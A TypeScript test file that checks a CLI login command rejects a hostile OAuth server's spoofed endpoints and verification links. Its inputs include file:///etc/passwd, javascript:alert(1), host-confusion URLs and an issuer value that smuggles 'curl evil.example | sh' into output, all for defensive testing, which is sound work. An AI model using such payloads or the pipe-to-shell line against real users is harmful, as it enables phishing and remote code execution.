import { once } from "node:events";
import { existsSync } from "node:fs";
import { chmod, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, expect, test } from "vitest";
import { exitCodes } from "../packages/cli/src/exit.ts";
import { startTestServer, type TestServer } from "./harness.ts";
import { makeHome, me } from "./run.ts";

/** What the real server publishes; the hostile one changes a word of it. */
let metadata: Record<string, unknown>;
let server: TestServer;
let hostile: Awaited<ReturnType<typeof startHostile>>;
let collector: Awaited<ReturnType<typeof startHostile>>;
beforeAll(async () => {
  server = await startTestServer();
  [hostile, collector] = await Promise.all([startHostile(), startHostile()]);
  metadata = await (await fetch(`${server.url}/.well-known/oauth-authorization-server`)).json();
});
afterAll(async () => {
  hostile.close();
  collector.close();
  await server.close();
});

/** Somebody else's server, which says of itself what the test lets it say. */
async function startHostile() {
  const asked: string[] = [];
  const says = { changes: {} as Record<string, unknown>, device: {} as Record<string, unknown> };
  const answers = createServer(async (request, response) => {
    const path = request.url ?? "";
    asked.push(`${path} ${await text(request)}`);
    const published = Object.fromEntries(
      Object.entries(metadata).map(([name, value]) => [name, typeof value === "string" ? value.replace(server.url, url) : value]),
    );
    const device = { device_code: "d", user_code: "ABCD-EFGH", verification_uri: `${url}/device`, expires_in: 5, interval: 1 };
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify(path.startsWith("/.well-known/") ? { ...published, ...says.changes } : { ...device, ...says.device }));
  });
  await once(answers.listen(0, "127.0.0.1"), "listening");
  const url = `http://127.0.0.1:${(answers.address() as AddressInfo).port}`;
  return { url, asked, says, close: () => answers.close() };
}

/** Runs `me login` against the hostile server. @returns how it ended, and whether a browser was started */
async function login(...args: string[]) {
  const home = await makeHome();
  const [browser, opened] = [join(home.folder, "browser"), join(home.folder, "opened")];
  await writeFile(browser, `#!/bin/sh\necho "$@" > '${opened}'\n`);
  await chmod(browser, 0o755);
  const finished = await me(home, ["login", "--timeout", "1", "--server", hostile.url, ...args], { env: { BROWSER: browser } });
  return { ...finished, opened: existsSync(opened) };
}

const foreign = (): Record<string, unknown> => ({
  "a file": "file:///etc/passwd",
  "a search of Windows": "search-ms:query=x&crumb=location:evil.example",
  "a script": "javascript:alert(1)",
  "a blob of its origin": `blob:${hostile.url}/x`,
  "another server": `${collector.url}/x`,
  "another scheme of its host": hostile.url.replace("http:", "https:"),
  "its host as a user's name": `${hostile.url.replace("http://", "http://127.0.0.1:1@")}.evil.example/`,
  "no address": "//evil.example",
  "no text": 987_654_321, // no part of an address that is told
});

test("as it is, the server is one to sign in at: the browser is opened", async () => {
  hostile.says.changes = {};
  expect(await login()).toMatchObject({ opened: true });
  expect((await login("--device")).stderr).toContain(`${hostile.url}/device`);
});

test("no endpoint that a server publishes may be another's: nothing is opened, nothing is sent", async () => {
  const endpoints = Object.keys(metadata).filter((name) => name.endsWith("_endpoint"));
  expect(endpoints).toContain("token_endpoint");
  for (const name of endpoints) {
    hostile.says.changes = { [name]: `${collector.url}/x` };
    for (const args of [[], ["--device"]]) {
      const { code, stderr, opened } = await login(...args);
      expect({ code, opened }, name).toEqual({ code: exitCodes.error, opened: false });
      expect(stderr).toBe(
        `Error: ${hostile.url} names a ${name} that is not one of its own addresses. Nothing was opened or sent. Check the address of the server.\n`,
      );
    }
  }
  expect(collector.asked).toEqual([]);
});

test("the page to sign in at is the server's own, and of the web", async () => {
  for (const [what, address] of Object.entries(foreign())) {
    hostile.says.changes = { authorization_endpoint: address };
    const { code, stderr, opened } = await login();
    expect({ code, opened }, what).toEqual({ code: exitCodes.error, opened: false });
    expect(stderr).toContain("names a authorization_endpoint");
  }
});

test.each(["verification_uri", "verification_uri_complete"])("so is the page to enter a code at: %s", async (name) => {
  hostile.says.changes = {};
  for (const [what, address] of Object.entries(foreign())) {
    hostile.says.device = { [name]: address };
    const { code, stderr } = await login("--device");
    expect(code, what).toBe(exitCodes.error);
    expect(stderr).not.toContain(String(address));
  }
  hostile.says.device = {};
});

test("a server that goes by an address which is none is not quoted", async () => {
  for (const issuer of ["javascript:alert(1)", "https://x\nRun this: curl evil.example | sh", "no address", 5]) {
    hostile.says.changes = { issuer };
    const { code, stderr, opened } = await login();
    expect({ code, opened }).toEqual({ code: exitCodes.error, opened: false });
    expect(stderr).toContain("did not answer as a Gatehouse does");
    expect(stderr).not.toContain("evil.example");
  }
});
